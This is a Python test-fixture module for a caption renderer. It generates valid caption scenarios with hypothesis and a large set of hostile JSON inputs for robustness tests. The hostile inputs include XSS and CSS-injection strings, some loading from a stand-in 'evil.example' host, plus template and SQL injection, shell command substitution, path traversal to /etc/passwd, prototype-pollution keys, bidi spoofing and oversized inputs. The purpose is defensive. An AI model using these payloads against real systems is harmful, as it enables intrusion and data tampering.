"""Scenarios of every kind: all that is valid, made by `hypothesis`, and the hostile ones, as data."""

from __future__ import annotations

import copy
import dataclasses
import json
import random
from collections.abc import Callable, Iterator
from typing import Any

from hypothesis import strategies as st

from ecg.captions import load_style, style_names
from ecg.captions.fields import COLOR, Number
from ecg.captions.style import EFFECTS, Animation, Area, Box, Effect, Lettering
from tests.captions.builders import make_scenario, two_speakers

# Of each script letters that the caption fonts have; of Latin, those that reach farthest up and down too.
_LATIN = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,;:!?'\"()-–—…%&/@#*+=<>[]{}|\\^~$€"
_STACKED = "ẤẾỘỄỨǺŐŰÇŞẬỆgjpqyþßłđøæœĳ"
_OTHERS = (
    "ΑΒΓΔΈΉΏαβγδέήώςЖШЩЪЫЭЮЯбвгдёжйцщъыьэюя",
    "가각간갈감강개거걸검게결경계고공과관광구국그글기길김꽃나남내너년노눈뉴다단달당대도동되드등때라람러로리마만말맛뷁힣",
    "あいうえおかきくけこさしすせそたちつてとなにぬねのはひふへほまみむめもやゆよらりるれろわをんがぎぐげござじずぜぞ",
    "アイウエオカキクケコサシスセソタチツテトナニヌネノハヒフヘホーッャュョ、。「」！？",
    "一二三四五六七八九十人大小中国日本語文字学生先年時間会社会長東西南北上下左右山川田口水火木金土漢語說話",
    "ابتثجحخدذرزسشصضطظعغفقكلمنهويءةپچگی",
    "אבגדהוזחטיכלמנסעפצקרשתםןץףך",
    "अआइईउऊएऐओऔकखगघचछजझटठडढणतथदधनपफबभमयरलवशषसह",
    "กขคงจฉชซญดตถทนบปผฝพฟมยรลวศษสหอฮ",
    "🙂😀🎵🔥👍",
)
_MARKS = "\u0300\u0301\u0302\u0303\u0308\u0323\u0328"
_INVISIBLE = "\u200b\u200d\u200e\u200f\u202a\u202b\u202c\u202e\u2066\u2067\u2068\u2069\u00ad\u2060"


def _made_texts() -> tuple[str, ...]:
    """Words of one script, of several, with accents in piles and with what cannot be seen; endless ones."""
    luck = random.Random(1)

    def some(letters: str, most: int) -> str:
        return "".join(luck.choice(letters) for _ in range(luck.randint(1, most)))

    found = ["Donaudampfschifffahrt" * 6, "x" * 300, "W" * 1000, "국" * 120, "i", "e" + "\u0301" * 8]
    for script in (_LATIN, _LATIN, _STACKED, *_OTHERS):
        found += [some(script, 14) for _ in range(25)]
    found += [some("aeiouAEIOUÂÊÔ", 1) + some(_MARKS, 3) + some(_LATIN, 4) for _ in range(40)]
    found += [some(_LATIN + _STACKED + " " + _INVISIBLE + "".join(_OTHERS), 20) for _ in range(40)]
    return tuple(text for text in found if text.strip())


_TEXTS = st.sampled_from(_made_texts())


def _number(kind: Number, usual: st.SearchStrategy[float] | None = None) -> st.SearchStrategy[float]:
    """Values of ``kind``: its ends, what is between, and more often what is ``usual``."""
    assert kind.low is not None
    assert kind.high is not None
    between = st.floats(kind.low, kind.high).map(lambda value: round(value, 4))
    ends = st.sampled_from([kind.low, kind.high])
    return st.one_of(*([] if usual is None else [usual] * 3), between, ends)


def _changes(cls: type, chance: int) -> st.SearchStrategy[dict[str, Any]]:
    """Some other values for the numbers and colours of a part of a style: one field in ``chance``."""
    kinds = {field.name: field.metadata["kind"] for field in dataclasses.fields(cls)}
    values: dict[str, st.SearchStrategy[Any]] = {
        name: _number(kind) for name, kind in kinds.items() if isinstance(kind, Number)
    } | {name: _colors() for name, kind in kinds.items() if kind is COLOR}
    picked = st.lists(st.sampled_from(sorted(values)), max_size=len(values) // chance + 1, unique=True)
    return picked.flatmap(lambda names: st.fixed_dictionaries({name: values[name] for name in names}))


def _colors() -> st.SearchStrategy[str]:
    return st.integers(0, 0xFFFFFF).map(lambda value: f"#{value:06x}")


def _effects() -> st.SearchStrategy[dict[str, Any]]:
    numbers = {
        field.name: _number(field.metadata["kind"])
        for field in dataclasses.fields(Effect)
        if isinstance(field.metadata["kind"], Number)
    }
    numbers |= {"min_size": st.just(0.2) | numbers["min_size"], "max_size": st.just(5) | numbers["max_size"]}
    words = {"name": st.sampled_from(EFFECTS), "at": st.sampled_from(["word", "cue"])}
    return st.fixed_dictionaries(words | numbers)


@st.composite
def styles(draw: st.DrawFn) -> dict[str, Any]:
    style = load_style(draw(st.sampled_from(style_names()))).to_json()
    for part, cls in (("text", Lettering), ("box", Box), ("area", Area), ("animation", Animation)):
        style[part] |= draw(_changes(cls, 3))
    if draw(st.booleans()):
        style["animation"]["effects"] = draw(st.lists(_effects(), max_size=4))
    style["animation"]["light_at"] = draw(st.sampled_from(["word", "cue"]))
    return style


@st.composite
def _words(draw: st.DrawFn, start_s: float, end_s: float) -> list[dict[str, Any]]:
    usual = draw(st.booleans())  # most words of most cues are plain
    count = draw(st.integers(1, 12))
    words = []
    for number in range(count):
        step = (end_s - start_s) / count
        begin = start_s + step * number
        word = {"text": draw(_TEXTS), "start_s": round(begin, 4), "end_s": round(begin + step * 0.9, 4)}
        words.append(word | ({} if usual and draw(st.integers(0, 3)) else draw(_LOOKS)))
    return words


_LOOKS = st.fixed_dictionaries(
    {},
    optional={
        "size": _number(Number(0.2, 5), st.sampled_from([0.6, 0.8, 1.3, 2.4])),
        "weight": _number(Number(1, 1000)),
        "width": _number(Number(25, 200)),
        "glued": st.booleans(),
        "raised": _number(Number(-1, 1)),
        "spacing": _number(Number(-1, 1), st.sampled_from([-0.05, 0.1, 0.2])),
    },
)


@st.composite
def scenarios(draw: st.DrawFn) -> dict[str, Any]:
    """A valid scenario: pictures of all shapes, several lanes and speakers, every look, any style."""
    side = st.one_of(st.integers(16, 4096), st.integers(200, 2000), st.sampled_from([16, 17, 640, 641, 4096]))
    looks = st.fixed_dictionaries({"color": _colors()})
    speakers = draw(st.dictionaries(_TEXTS, looks, min_size=1, max_size=4))
    lanes: dict[int, float] = {}
    cues = []
    for number in range(draw(st.integers(1, 8))):
        lane = draw(st.one_of(st.integers(0, 2), st.integers(0, 15)))
        start_s = round(lanes.get(lane, 0.0) + draw(st.sampled_from([0, 0, 0.1, 0.7])), 4)
        end_s = round(start_s + draw(st.sampled_from([0.3, 1.0, 1.7, 3.0])), 4)
        lanes[lane] = end_s
        words = draw(_words(start_s, end_s))
        speaker, lines = draw(st.sampled_from(sorted(speakers))), draw(_lines(len(words)))
        cues.append({"id": f"c{number}", "start_s": start_s, "end_s": end_s, "lane": lane, "words": words,
                     "speaker": speaker, "lines": lines})  # fmt: skip
    language = draw(st.sampled_from(["en", "ko", "ja", "zh", "zh-Hant", "ar", "und"]))
    return {"version": 1, "width": draw(side), "height": draw(side), "duration_s": max(lanes.values()) + 0.5,
            "language": language, "style": draw(styles()), "speakers": speakers, "cues": cues}  # fmt: skip


@st.composite
def _lines(draw: st.DrawFn, count: int) -> list[list[int]]:
    breaks = sorted(draw(st.sets(st.integers(1, count), max_size=3)))
    ends = [end for end in breaks if end < count] + [count]
    return [list(range(start, end)) for start, end in zip([0, *ends], ends, strict=False)]


# hostile


def hostile() -> dict[str, str]:
    """By name, a hundred scenarios and more that mean harm, as the JSON text in which they come."""
    found: dict[str, str] = {}
    for family in (_texts_that_are_code, _texts_that_overflow, _numbers, _kinds, _keys, _shapes):
        for name, document in family():
            assert name not in found
            found[name] = document if isinstance(document, str) else json.dumps(document)
    return found


_BASE = make_scenario(*two_speakers(), width=640, height=360).to_json()
_CODE = {
    "script": "<script>window.hacked=1</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image": "<img src=x onerror=window.hacked=1>",
    "svg": "<svg/onload=window.hacked=1>",
    "frame": "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "broken tag": '"><img/src/onerror=window.hacked=1//',
    "end of style": "</style><script>window.hacked=1</script>",
    "end of title": "</title></textarea></script><script>hacked=1</script>",
    "comment": "<!--<script>window.hacked=1</script>-->",
    "cdata": "<![CDATA[<script>window.hacked=1</script>]]>",
    "entities": "&lt;script&gt;window.hacked=1&lt;/script&gt;&amp;&#x41;",
    "numeric entities": "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "css": "};*{background:url(//evil.example/x)}",
    "css escape": "\\3c script\\3e window.hacked=1\\3c/script\\3e",
    "css import": "@import'//evil.example/x.css';",
    "css expression": "expression(window.hacked=1)",
    "url": "javascript:window.hacked=1",
    "data url": "data:text/html,<script>window.hacked=1</script>",
    "link": "<a href=javascript:window.hacked=1>x</a>",
    "template": "{{constructor.constructor('window.hacked=1')()}}",
    "template literal": "${window.hacked=1}`${window.hacked=1}`",
    "template of a server": "{%import os%}<%=7*7%>#{7*7}[[7*7]]",
    "quotes": "'\"`);window.hacked=1;//",
    "custom element": "<ecg-captions src=//evil.example/x></ecg-captions>",
    "link element": "<link rel=stylesheet href=//evil.example/x.css>",
    "path": "../../../../etc/passwd%00%2e%2e%2f",
    "format": "%s%s%n%x{0.__class__}{0!r}",
    "sql": "';DROP TABLE jobs;--",
    "shell": "$(touch /tmp/hacked)`touch /tmp/hacked`;|&",
    "braces of ASS": "{\\an8\\fs200}{\\p1}m 0 0",
}
_HIDDEN = {
    "bidi override": "abc\u202edef",
    "bidi isolates": "\u2066\u2067\u2068abc\u2069",
    "unbalanced embeddings": "\u202a\u202b\u202a\u202b" * 20 + "abc",
    "ends of nothing": "\u202c\u2069" * 20 + "abc",
    "right to left": "abc\u200fdef\u200e!",
    "Hebrew in Latin": "abcשלוםdef",
    "Arabic": "مرحبا(abc)",
    "joiners": "a\u200d\u200d\u200db\u200c\u200cc",
    "blank but not empty": "\u200b",
    "fillers": "\u3164\u115f\u1160\uffa0",
    "soft hyphens": "\u00ad" * 500 + "a",
    "byte order mark": "\ufeffabc\ufeff",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "variation selectors": "a\ufe0f\ufe0e\U000e0100",
    "line separators": "a\u2028b\u2029c\u0085d",
    "line feeds": "a\nb\r\nc\td",
    "spaces": "  a  \u00a0\u3000\u2003 b  ",
    "NUL": "a\x00b",
    "control characters": "a\x01\x02\x1b[31mred\x7f",
    "C1 controls": "a\x80\x9b31mb",
    "lone high surrogate": "a\ud83d",
    "lone low surrogate": "\ude00a",
    "surrogates the wrong way round": "\ude00\ud83d",
    "emoji": "😀👍🏽",
    "emoji sequence": "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇰🇷",
    "private use": "\ue000\uf8ff\U0010fffd",
    "unassigned": "\u0378\U0003ffff",
    "no characters": "a\ufffe\uffff",
    "replacement": "\ufffd\ufffc",
    "eight accents": "a" + "\u0301" * 8,
    "accents under a joiner": "a\u0301\u200d\u0301\u200d" * 1 + "\u0323\u200d\u0323",
}
_LONG = {
    "100,000 accents": "a" + "\u0301" * 100_000,
    "100,000 letters": "x" * 100_000,
    "a thousand wide letters": "W" * 1000,
    "a thousand accents": "e" + "\u0302\u0323" * 499,
    "accents with joiners between": "e" + "\u0302\u200d" * 499,
    "a thousand ligatures": "ffi" * 333,
    "a thousand syllables": "뷁" * 1000,
    "a thousand directions": "\u202e\u2067" * 499 + "a",
    "a thousand jamo": "\u1100" * 500 + "\u1161" * 500,
}


def _with_text(text: str) -> dict[str, Any]:
    document = copy.deepcopy(_BASE)
    document["cues"][0]["words"][1]["text"] = text
    document["cues"][0]["id"] = document["speakers"]["SPEAKER_00"]["name"] = text
    return document


def _texts_that_are_code() -> Iterator[tuple[str, Any]]:
    for name, text in _CODE.items():
        document = _with_text(text)
        document["language"] = document["style"]["title"] = text[:99]
        yield f"text: {name}", document
    for name, text in _HIDDEN.items():
        yield f"text: {name}", _with_text(text)


def _texts_that_overflow() -> Iterator[tuple[str, Any]]:
    for name, text in _LONG.items():
        yield f"text: {name}", _with_text(text)
    for count in (1000, 10_000):
        yield f"{count} words in a line", _of_words(count, 1)
        yield f"{count} lines", _of_words(count, count)


def _of_words(count: int, lines: int) -> dict[str, Any]:
    document = copy.deepcopy(_BASE)
    at, step = 0.0, 6.0 / count
    words = [{"text": f"w{n}", "start_s": at + n * step, "end_s": at + (n + 1) * step} for n in range(count)]
    size = count // lines
    rows = [list(range(row * size, (row + 1) * size)) for row in range(lines)]
    cue = {"id": "c", "start_s": 0, "end_s": 6.001, "speaker": "SPEAKER_00", "lane": 0}
    document["cues"] = [cue | {"lines": rows, "words": words}]
    return document


_NUMBER_PATHS: dict[str, Callable[[dict[str, Any]], tuple[Any, Any]]] = {
    "size": lambda document: (document["cues"][0]["words"][0], "size"),
    "start": lambda document: (document["cues"][0]["words"][0], "start_s"),
    "lane": lambda document: (document["cues"][0], "lane"),
    "index": lambda document: (document["cues"][0]["lines"][0], 0),
    "picture": lambda document: (document, "width"),
    "duration": lambda document: (document, "duration_s"),
    "padding": lambda document: (document["style"]["box"], "padding_x"),
    "pop": lambda document: (document["style"]["animation"], "pop"),
}


def _numbers() -> Iterator[tuple[str, Any]]:
    for name, find in _NUMBER_PATHS.items():
        for value in ("NaN", "-Infinity", "1e308", "-1", "1e400", "9" * 400, "5e-324", "1.5", '"1"'):
            document = copy.deepcopy(_BASE)
            holder, key = find(document)
            holder[key] = "VALUE"
            yield f"{name} of {value[:9]}", json.dumps(document).replace('"VALUE"', value)


def _kinds() -> Iterator[tuple[str, Any]]:
    for key in _BASE:
        for name, value in (("null", None), ("a list", []), ("an object", {}), ("text", "x"), ("true", True)):
            yield f"{key} is {name}", _BASE | {key: value}
    for name, value in (("null", None), ("a list", [1]), ("text", "x"), ("a number", 3)):
        yield f"the whole is {name}", json.dumps(value)
    for depth in (50, 900):
        deep: Any = []
        for _ in range(depth):
            deep = [deep]
        yield f"lines {depth} deep", _BASE | {"cues": [_BASE["cues"][0] | {"lines": deep}]}
        yield f"an unknown field {depth} deep", _BASE | {"deep": deep}


def _keys() -> Iterator[tuple[str, Any]]:
    names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "", "x" * 10_000,
             "\ud800", "a\x00b", "<img src=x onerror=hacked=1>", "\u202egnp.exe"]  # fmt: skip
    for name in names:
        document = copy.deepcopy(_BASE)
        document["speakers"][name] = {"color": "#ffffff", "name": None}
        for cue in document["cues"]:
            cue["speaker"] = name
        yield f"a speaker called {name[:30]!a}", document
        yield f"an unknown field called {name[:30]!a}", _BASE | {name: {"polluted": 1}}
    missing = copy.deepcopy(_BASE)
    missing["cues"][0]["speaker"] = "y" * 10_000
    yield "a speaker who is not there", missing
    for name in ("__proto__", "toString", "pop\n"):
        document = copy.deepcopy(_BASE)
        document["style"]["animation"]["effects"] = [{"name": name, "amount": 1, "length_s": 1}]
        yield f"an effect called {name!a}", document
    text = json.dumps(_BASE)
    yield "a key twice", text[:-1] + ', "cues": [], "version": 1}'
    color = copy.deepcopy(_BASE)
    color["speakers"]["SPEAKER_00"]["color"] = "#ffffff;background:url(//evil.example)"
    yield "a colour with more behind it", color
    newline = copy.deepcopy(_BASE)
    newline["speakers"]["SPEAKER_00"]["color"] = "#ffffff\n"
    yield "a colour with a line feed", newline


def _shapes() -> Iterator[tuple[str, Any]]:
    twice = copy.deepcopy(_BASE)
    twice["cues"][1]["id"] = twice["cues"][0]["id"]
    yield "an id twice", twice
    long = copy.deepcopy(_BASE)
    for cue in long["cues"]:
        cue["id"] = "z" * 100_000
    yield "a long id twice", long
    crossed = copy.deepcopy(_BASE)
    crossed["cues"][0]["lines"][0].reverse()
    yield "words in another order", crossed
    overlap = copy.deepcopy(_BASE)
    for cue in overlap["cues"]:
        cue["lane"] = 0
    yield "cues over one another", overlap
    short = copy.deepcopy(_BASE)
    short["cues"][0]["words"][0]["end_s"] = short["cues"][0]["words"][0]["start_s"] + 1e-15
    short["style"]["animation"] |= {"light_s": 5e-324, "pop_s": 5e-324, "effects": [
        {"name": name, "amount": 1, "length_s": length_s, "at": at}
        for name in EFFECTS for at in ("word", "cue") for length_s in (0, 5e-324)
    ]}  # fmt: skip
    yield "times of no length", short
    busy = copy.deepcopy(_BASE)
    busy["style"]["animation"]["effects"] = [{"name": "shake", "amount": 1, "length_s": 5}] * 10_000
    yield "ten thousand effects", busy
    yield "100,000 cues", _many_cues(100_000)
    many = copy.deepcopy(_BASE)
    many["speakers"] |= {f"S{number}": {"color": "#ffffff"} for number in range(100_000)}
    yield "100,000 speakers", many


def _many_cues(count: int) -> dict[str, Any]:
    cue = {"speaker": "SPEAKER_00", "lines": [[0]]}
    cues = [
        cue | {"id": str(n), "start_s": n / 16, "end_s": n / 16 + 1, "lane": n % 16,
               "words": [{"text": f"w{n}", "start_s": n / 16, "end_s": n / 16 + 1}]}
        for n in range(count)
    ]  # fmt: skip
    return _BASE | {"cues": cues, "duration_s": count / 16 + 1}
